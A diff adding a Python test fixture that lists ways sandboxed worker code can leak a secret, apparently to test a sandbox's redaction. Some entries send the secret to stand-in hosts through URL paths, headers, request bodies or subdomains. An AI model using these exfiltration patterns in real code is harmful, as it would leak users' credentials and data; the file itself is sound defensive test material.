@@ -1,0 +1,77 @@
+"""The ways that leave a worker, each as a body that tells a secret by it: `key`, `number` and `word` hold one each.
+
+`ask(name, arguments)` is a request as the channel carries it. What raises or returns stands at the end.
+"""
+
+NUMBER = "4071823365"
+WORD = "qzvkwjxpa_token7"  # can be a name, a host, a path
+OTHER = "other-SECRET/of=inner"
+
+REQUESTS = {
+    "progress-note": 'self.progress(1, 2, "at " + key)',
+    "progress-numbers": "self.progress(int(number), float(number))",
+    "progress-number-as-text": 'ask("progress", {"done": 1, "total": number, "note": key})',
+    "progress-more-fields": 'ask("progress", {"done": 1, key: key, "note": [key, {key: key.encode()}]})',
+    "memory-append": 'self.memory.append("human", "the key is " + key)',
+    "memory-write": 'self.memory.write("human", key + " " + word)',
+    "memory-replace": 'self.memory.append("human", "put it here")\nself.memory.replace("human", "put it here", key)',
+    "memory-label": "self.memory.append(word, key)",
+    "memory-pieces": 'self.memory.write("human", word[:8])\n'
+    'self.memory.replace("human", word[:8], word[:8] + "-" + word[8:])\n'
+    'self.memory.replace("human", "-", "")',
+    "memory-pieces-in-lines": 'self.memory.write("human", "\\n".join([word[:8], word[8:]]))\n'
+    'self.memory.replace("human", "\\n", "")',
+    "call-arguments": 'self.call("shout", text={"a": [key, int(number), {word: key.encode()}]})',
+    "call-name": "self.call(word, text=key)",
+    "call-argument-names": 'self.call("shout", **{word: key})',
+    "call-of-another-with-a-secret": 'print(self.call("inner"))',
+    "fetch-path": 'self.fetch("http://HOST/" + word + "?q=" + word, headers={"X-Key": word}, method="POST", body=word)',
+    "fetch-host-that-is-not-granted": 'self.fetch("https://" + word.replace("_", "-") + ".example.org/")\n'
+    'self.fetch("https://" + word + ".example.org/")',
+    "fetch-host-in-another-case": 'self.fetch("https://" + word.upper() + ".example.org/")',
+    "fetch-of-a-wild-grant": 'self.fetch("http://" + word.upper() + ".wild.invalid/")',
+    "fetch-method": 'self.fetch("http://HOST/", method=word)',
+    "fetch-read": 'ask("fetch_read", {"stream": int(number), "size": 1})',
+    "fetch-send": 'ask("fetch_send", {"data": key.encode()})',
+    "fetch-close": 'ask("fetch_close", {"stream": key})',
+    "secret-name": "self.secret(word)",
+    "now-with-arguments": 'ask("now", {"zone": key})',
+    "a-request-of-no-verb": 'ask(word, {word: key, "number": int(number)})',
+    "debug-record": 'ask("debug", {"event": "record", "id": 0, "hits": int(number), "path": word, "line": int(number),'
+    ' "function": word, "locals": [[word, key]], "shown": [[key, word]]})',
+    "debug-traced": 'ask("debug", {"event": "traced", "rows": [[word, int(number), word, 1, [[word, key]], []]],'
+    ' "lines": [int(number)]})',
+    "debug-stopped": 'ask("debug", {"event": "stopped", "why": key, "id": 0, "frames": [[word, int(number), word]],'
+    ' "locals": [[word, key]], "arguments": 1, "names": [word], "shown": [], "value": key, "error": key})',
+    "debug-answered": 'ask("debug", {"event": "answered", "text": key})',
+    "debug-of-no-event": 'ask("debug", {"event": word, word: key})',
+    "a-module": "import importlib\nimportlib.import_module('functions.' + word)",
+    "a-name-of-a-file": "import pathlib\nplace = pathlib.Path('out', word)\nplace.mkdir(exist_ok=True)\n"
+    "for name in ('objects', 'refs'):\n    (place / name).mkdir(exist_ok=True)\n(place / 'HEAD').touch()",
+}
+"""Requests, by what they tell; each can be made before the call ends."""
+
+ENDS = {
+    "printed": 'print("printed", key, number, word, flush=True)',
+    "printed-in-pieces": 'print(key[:13], end="")\nprint(key[13:], flush=True)\nprint(word)',
+    "returned-nested": "return {key: [number, (word, {key.encode()}), int(number)]}",
+    "returned-number": "return [int(number), float(number), -int(number)]",
+    "returned-as-bytes-whose-base64-it-is": "return base64.b64decode(word.replace('_', '/')[:16]), word",
+    "raised": "raise type(word, (ValueError,), {})(key)",
+    "raised-with-a-cause": "try:\n    raise KeyError(key)\nexcept KeyError as error:\n"
+    "    raise ValueError(number) from error",
+    "raised-locals": "held = {word: key}\nraise ValueError('no')",
+    "a-frame-with-a-line": 'exec(compile("\\n" * (int(number) % 99991) + "raise ValueError(1)", word, "exec"))',
+    "left": "import os\nprint(key, flush=True)\nos._exit(3)",
+    "a-reply-of-no-shape": 'self._channel.say({"kind": word, "value": key})\nimport os\nos._exit(0)',
+    "a-reply-refused": 'self._channel.say({"kind": "refused", "reason": key + word})\nimport os\nos._exit(0)',
+    "a-reply-with-a-tag": 'self._channel.say({"kind": "returned", "value": {"$": word, "v": key}, "shown": key})'
+    "\nimport os\nos._exit(0)",
+    "a-reply-raised": 'self._channel.say({"kind": "raised", "type": word, "message": key, "frames":'
+    ' [[word, int(number), word, [[word, key]]]], "cause": {"type": key, "message": word, "frames":'
+    ' [["functions/in_leak.py", int(number), "leak", [[key, key]]]]}, "was_handling": True})'
+    "\nimport os\nos._exit(0)",
+}
+"""How the call ends."""
+
+WAYS = {**REQUESTS, **ENDS}
